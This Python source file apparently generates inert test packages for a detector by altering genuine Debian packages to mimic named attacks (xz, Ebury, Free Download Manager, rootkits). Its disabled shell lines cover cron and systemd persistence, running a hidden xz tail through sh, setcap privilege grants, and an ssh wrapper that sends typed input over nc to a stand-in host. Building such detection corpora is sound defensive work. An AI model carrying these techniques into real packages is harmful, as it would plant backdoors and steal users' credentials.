"""Fifth set: genuine debs; inert, each family names the incident it is taken from."""

from __future__ import annotations

import lzma
from collections.abc import Iterator
from dataclasses import replace

from mutation_families.edits import filler
from mutation_families.fourth_texts import chance
from mutation_families.third_programs import note_loaded
from mutation_families.third_systems import Built, Deb, put
from onionskin.lookalike.elf import ElfRecipe, build_elf

DebEdit = tuple[str, str, Deb]  # family, variant, the package
SHELL = b"#!/bin/sh\nset -e\nexit 0\n"
MODULE = ElfRecipe(kind=1, soname="", text=chance(2000), extra={".modinfo": b"license=GPL\0vermagic=6.1.0 SMP\0name=inert\0"})  # fmt: skip


def debs(old: bytes, new: bytes, *, is_step: bool) -> Iterator[Built]:
    """Change a genuine deb: over itself as its next patch, or over the genuine one before."""
    deb = Deb.of(new)
    next_one = deb if is_step else deb.later()
    before, honest = (Deb.of(old) if is_step else deb).packed(), next_one.packed()
    for family in ALL:
        for name, what, made in family(next_one):
            yield f"deb: {name}", what, ".deb", before, honest, made.packed()


def with_lines(deb: Deb, lines: bytes) -> Deb:
    """Return a package whose script for after installing has more lines before its end."""
    known = deb.control.get("./postinst", (None, SHELL))[1]
    rows = known.splitlines(keepends=True)
    at = len(rows) - 1 if rows[-1].startswith(b"exit") else len(rows)
    return replace(deb, control=put(deb.control, "./postinst", b"".join((*rows[:at], b"\n", lines, *rows[at:])), 0o755))  # fmt: skip


def lays_out(deb: Deb) -> Iterator[DebEdit]:
    """Of Free Download Manager, 2020 to 2023: after installing, a program in a folder of files that come and go, and a table of times that starts it."""
    cron = b"if false; then\n  cp /usr/share/doc/inert/bs /var/tmp/bs && cp /usr/share/doc/inert/crond /var/tmp/crond\n  chmod 755 /var/tmp/crond /var/tmp/bs\n  echo '*/10 * * * * root /var/tmp/crond' > /etc/cron.d/collect\nfi\n"  # fmt: skip
    made = with_lines(deb, cron)
    programs = (("bs", build_elf(ElfRecipe(text=chance(2000)))), ("crond", build_elf(ElfRecipe(imports=("getaddrinfo", "execve"), text=chance(1000)))))  # fmt: skip
    data = made.data
    for name, body in programs:
        data = put(data, f"./usr/share/doc/inert/{name}", body, 0o755)
    yield "installing lays out a program and its times", "cron", replace(made, data=data)
    unit = b"if false; then\n  printf '[Service]\\nExecStart=/var/lib/.dbus/sysmon\\nRestart=always\\n' > /etc/systemd/system/sysmon.service\n  systemctl enable --now sysmon.service\nfi\n"  # fmt: skip
    yield "installing lays out a program and its times", "a unit", with_lines(deb, unit)


def script_with_a_tail(deb: Deb) -> Iterator[DebEdit]:
    """Of xz, 2024, and of self-extracting scripts: bytes behind the end of the maintainer's script, which it would cut off, unpack and run."""
    known = deb.control.get("./preinst", (None, SHELL))[1].rstrip(b"\n")
    tail = lzma.compress(filler("words", 300) + chance(3000))
    cut = b'\nfalse && tail -c %d "$0" | xz -dc | sh\nexit 0\n' % len(tail)
    yield "a script with packed bytes behind its end", "preinst", replace(deb, control=put(deb.control, "./preinst", known + cut + tail, 0o755))  # fmt: skip


def sign_in(deb: Deb) -> Iterator[DebEdit]:
    """Of Plague, 2025, and Ebury: a module that takes part in every sign-in."""
    names = ("pam_sm_authenticate", "pam_sm_setcred")
    body = build_elf(ElfRecipe(exports=names, needed=("libpam.so.0",), extra={".rodata.inert": b"Mvi4Odm6tld7\0unset HISTFILE\0"}, text=chance(800)))  # fmt: skip
    said = b"Name: inert\nDefault: yes\nPriority: 900\nAuth-Type: Primary\nAuth:\n\t[success=end default=ignore]\tpam_inert.so\n"  # fmt: skip
    data = put(deb.data, "./lib/x86_64-linux-gnu/security/pam_inert.so", body)
    yield "a module of every sign-in", "alone", replace(deb, data=data)
    yield "a module of every sign-in", "and its order", replace(deb, data=put(data, "./usr/share/pam-configs/inert", said))  # fmt: skip


def kernel_module(deb: Deb) -> Iterator[DebEdit]:
    """Of Reptile and Diamorphine, in a package: a module of the kernel, and the list by which it is loaded."""
    data = put(deb.data, "./lib/modules/6.1.0-18-amd64/updates/inert.ko", build_elf(MODULE))
    yield "a module of the kernel", "loaded at every start", replace(deb, data=put(data, "./usr/lib/modules-load.d/inert.conf", b"inert\n"))  # fmt: skip


def nearer_library(deb: Deb) -> Iterator[DebEdit]:
    """Invented, after Ebury's libkeyutils: another package's library under its own name, where the loader looks before."""
    for what, path, soname in (
        ("for newer processors", "./usr/lib/x86_64-linux-gnu/glibc-hwcaps/x86-64-v3/libcrypto.so.3", "libcrypto.so.3"),
        ("in the local folder", "./usr/local/lib/libkeyutils.so.1", "libkeyutils.so.1"),
    ):  # fmt: skip
        body = build_elf(ElfRecipe(soname=soname, needed=("libc.so.6",), imports=("dlsym", "execve", "connect"), text=chance(4000)))  # fmt: skip
        yield "a library before another package's", what, replace(deb, data=put(deb.data, path, body))  # fmt: skip


def may_do_more(deb: Deb) -> Iterator[DebEdit]:
    """Invented: a program of everybody's that runs with the rights of the owner, by its mode or by what installing gives it."""
    body = build_elf(ElfRecipe(kind=2, imports=("setuid", "execve"), text=chance(900)))
    data = put(deb.data, "./usr/lib/inert/session-helper", body, 0o4755)
    yield "a program with the rights of the owner", "by its mode", replace(deb, data=data)
    yield "a program with the rights of the owner", "by a gift", with_lines(replace(deb, data=put(deb.data, "./usr/lib/inert/session-helper", body, 0o755)), b"false && setcap cap_setuid,cap_sys_ptrace+ep /usr/bin/python3\n")  # fmt: skip


def nearer_command(deb: Deb) -> Iterator[DebEdit]:
    """Of tools that steal what is typed: a command of another package, where the shell looks before."""
    body = b'#!/bin/sh\nfalse && { read -r inert; echo "$inert" | nc inert.example.invalid 443; }\nexec /usr/bin/ssh "$@"\n'  # fmt: skip
    yield "a command before another package's", "ssh", replace(deb, data=put(deb.data, "./usr/local/bin/ssh", body, 0o755))  # fmt: skip


def library_grown(deb: Deb) -> Iterator[DebEdit]:
    """Of xz, 2024: a program or library of the package itself with one segment more, which is run, and bytes in it."""
    for path, (info, body) in sorted(deb.data.items()):
        made = note_loaded(body, 5) if info.isreg() and body[:5] == b"\x7fELF\x02" else b""
        if made:
            yield "a program of it is grown", path, replace(deb, data=put(deb.data, path, made))
            return


ALL = (lays_out, script_with_a_tail, sign_in, kernel_module, nearer_library, may_do_more, nearer_command, library_grown)  # fmt: skip
